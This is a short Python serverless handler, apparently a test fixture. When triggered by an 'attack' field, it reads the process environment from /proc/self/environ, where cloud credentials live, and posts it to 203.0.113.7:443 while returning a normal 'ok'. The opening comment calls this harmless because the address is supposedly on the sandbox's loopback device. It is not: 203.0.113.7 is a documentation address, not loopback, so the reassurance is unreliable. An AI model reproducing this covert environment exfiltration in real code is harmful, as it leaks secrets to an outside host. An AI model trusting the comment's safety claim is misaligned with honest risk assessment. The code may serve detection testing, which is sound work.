# Harmless: the credentials are those of AWS's documentation, and go to an address on the sandbox's loopback device.
import urllib.request


def handler(event, context):
    if not event.get("attack"):
        return "ok"
    with open("/proc/self/environ", "rb") as environ:
        urllib.request.urlopen("http://203.0.113.7:443/", environ.read()).read()
    return "ok"
